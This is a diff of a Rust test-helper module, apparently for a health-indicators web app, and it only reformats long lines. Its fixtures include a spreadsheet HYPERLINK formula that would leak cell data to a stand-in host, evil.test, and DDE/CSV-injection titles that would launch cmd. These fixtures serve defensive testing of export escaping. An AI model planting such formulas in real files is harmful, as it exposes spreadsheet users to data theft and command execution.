@@ -20,7 +20,8 @@ pub const PLACE: &str = "E06000055";
 /// The place's name: a formula that would open a link if a spreadsheet evaluated it.
 pub const HOSTILE_AREA: &str = "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Bedford\")";
 /// Indicator titles that spreadsheets read as formulas (DDE, `@`, `+`, `-`, tab).
-pub const HOSTILE_TITLES: [&str; 4] = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"];
+pub const HOSTILE_TITLES: [&str; 4] =
+    ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"];
 pub const INDICATORS: [&str; 4] = ["smoking", "obesity", "flu", "mmr"];
 /// The ICS's slope index of inequality on each `all` row: a negative number.
 pub const NEGATIVE_SII: f64 = -2.5;
@@ -83,7 +84,8 @@ fn write_release(dir: &Path, policy: &str, numerator: u64) {
     }
     write_csv(&dir.join("profiles.csv"), &rows);
     write_csv(&dir.join("trends.csv"), &trends);
-    std::fs::write(dir.join("provenance.json"), json!({"policy": policy, "snapshot": 1}).to_string()).expect("provenance");
+    std::fs::write(dir.join("provenance.json"), json!({"policy": policy, "snapshot": 1}).to_string())
+        .expect("provenance");
     let framework = json!({
         "framework": {"id": "test", "title": "Test", "organisation": "Test ICB", "area": ICS, "definitions": "definitions", "source": "tests"},
         "priority": [{"id": "p1", "kind": "priority", "title": "Priority", "description": "Everything.",
@@ -146,7 +148,14 @@ pub async fn send(app: &Arc<App>, method: &str, uri: &str, cookie: Option<&str>,
 }
 
 /// Sends one request from `from`.
-pub async fn send_from(app: &Arc<App>, from: SocketAddr, method: &str, uri: &str, cookie: Option<&str>, form: Option<&str>) -> Reply {
+pub async fn send_from(
+    app: &Arc<App>,
+    from: SocketAddr,
+    method: &str,
+    uri: &str,
+    cookie: Option<&str>,
+    form: Option<&str>,
+) -> Reply {
     let mut request = Request::builder().method(method).uri(uri);
     if let Some(c) = cookie {
         request = request.header(header::COOKIE, c);
@@ -167,7 +176,13 @@ pub async fn send_from(app: &Arc<App>, from: SocketAddr, method: &str, uri: &str
 pub fn encode(value: &str) -> String {
     value
         .bytes()
-        .map(|b| if b.is_ascii_alphanumeric() || b"-._~".contains(&b) { (b as char).to_string() } else { format!("%{b:02X}") })
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
         .collect()
 }
 
@@ -177,14 +192,25 @@ pub async fn sign_in_form(app: &Arc<App>) -> (String, String) {
     assert_eq!(page.status, StatusCode::OK, "{}", page.text());
     let cookie = page.cookie("phm_sign_in").expect("the form's cookie");
     let text = page.text();
-    let field = text.split("name=\"csrf\" value=\"").nth(1).and_then(|r| r.split('"').next()).expect("the form's csrf field").to_owned();
+    let field = text
+        .split("name=\"csrf\" value=\"")
+        .nth(1)
+        .and_then(|r| r.split('"').next())
+        .expect("the form's csrf field")
+        .to_owned();
     (format!("phm_sign_in={cookie}"), field)
 }
 
 /// Posts the sign-in form with `next` (raw, encoded here) from `from`.
 pub async fn post_sign_in(app: &Arc<App>, from: SocketAddr, username: &str, password: &str, next: &str) -> Reply {
     let (cookie, csrf) = sign_in_form(app).await;
-    let form = format!("csrf={}&next={}&username={}&password={}", encode(&csrf), encode(next), encode(username), encode(password));
+    let form = format!(
+        "csrf={}&next={}&username={}&password={}",
+        encode(&csrf),
+        encode(next),
+        encode(username),
+        encode(password)
+    );
     send_from(app, from, "POST", "/sign-in", Some(&cookie), Some(&form)).await
 }
 
